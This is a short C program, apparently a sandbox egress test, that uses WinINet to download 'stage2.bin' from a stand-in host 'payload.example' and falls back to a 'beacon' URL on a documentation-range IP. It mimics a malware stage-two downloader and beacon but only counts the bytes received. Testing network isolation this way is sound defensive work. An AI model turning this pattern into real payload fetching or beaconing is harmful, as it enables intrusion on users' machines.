/* WinINet download from a reserved host (only ever inside a private netns). */
#include <windows.h>
#include <wininet.h>
#include <stdio.h>
int main(void) {
    HINTERNET net = InternetOpenA("Mozilla/5.0 (petri test)", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    if (!net) { printf("InternetOpen failed %lu\n", GetLastError()); return 1; }
    /* A name (resolved by the sandbox's DNS) and a literal address in the documentation range. */
    HINTERNET url = InternetOpenUrlA(net, "http://payload.example/stage2.bin", NULL, 0, INTERNET_FLAG_RELOAD, 0);
    if (!url) {
        printf("InternetOpenUrl failed %lu\n", GetLastError());
        url = InternetOpenUrlA(net, "http://198.51.100.7/beacon?id=petri", NULL, 0, INTERNET_FLAG_RELOAD, 0);
        if (!url) { printf("InternetOpenUrl (ip) failed %lu\n", GetLastError()); InternetCloseHandle(net); return 2; }
    }
    char buf[4096]; DWORD n, total = 0;
    while (InternetReadFile(url, buf, sizeof buf, &n) && n > 0) total += n;
    printf("downloaded %lu bytes\n", total);
    InternetCloseHandle(url); InternetCloseHandle(net);
    return 0;
}
